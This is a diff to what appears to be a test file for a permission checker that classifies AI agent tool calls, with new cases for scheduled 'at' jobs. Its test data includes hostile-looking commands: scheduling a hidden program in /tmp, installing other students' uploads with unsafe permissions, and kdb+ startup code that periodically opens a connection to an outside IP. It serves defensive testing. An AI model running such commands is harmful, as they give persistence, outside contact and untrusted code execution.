@@ -190,7 +190,7 @@ test("a build file taking an unknown owner's repository on a branch asks; tags, 
   ]);
 });
 
-test("other people's uploads installed, at jobs and kdb+ start-up code are stopped; reading and listing pass", () => {
+test("other people's uploads installed, at jobs of hidden programs and kdb+ start-up code are stopped; reading and listing pass", () => {
   check([
     ['A', 'exec', { command: 'pip install /home/dev/cs101/submissions/mallory/hw6/' }],
     ['A', 'exec', { command: 'npm install --unsafe-perm /home/dev/cs101/submissions/mallory/project2' }],
@@ -204,6 +204,18 @@ test("other people's uploads installed, at jobs and kdb+ start-up code are stopp
     ['D', 'write', { path: '/home/dev/q/q.q', content: '.z.ts:{@[hopen;`:198.51.100.23:5001;{0N}]};\n\\t 600000\n' }],
     ['B', 'exec', { command: 'python3 -m pytest submissions/alice/hw5 -q' }],
     ['B', 'exec', { command: 'pip install -r /home/dev/cs101/autograder/requirements.txt' }],
+    ['D', 'exec', { command: "echo '/tmp/.u' | at now + 2 hours" }],
+    ['B', 'exec', { command: "at now + 1 minute <<< 'echo hi'" }],
+    ['B', 'exec', { command: "echo 'systemctl restart nginx' | at 02:00" }],
+    ['B', 'exec', { command: "echo '~/.local/bin/backup --quick' | at now + 5 minutes" }],
+    [
+      'B',
+      'exec',
+      {
+        command:
+          'python -m pip install "apache-airflow==2.10.2" --constraint "https://raw.githubusercontent.com/apache/airflow/constraints-2.10.2/constraints-3.12.txt"',
+      },
+    ],
     ['B', 'exec', { command: 'at -l' }],
     ['B', 'exec', { command: 'atq' }],
     ['B', 'write', { path: '/home/dev/q/q.q', content: 'h:hopen `:localhost:5010;\n\\l /home/dev/q/schema.q\n' }],
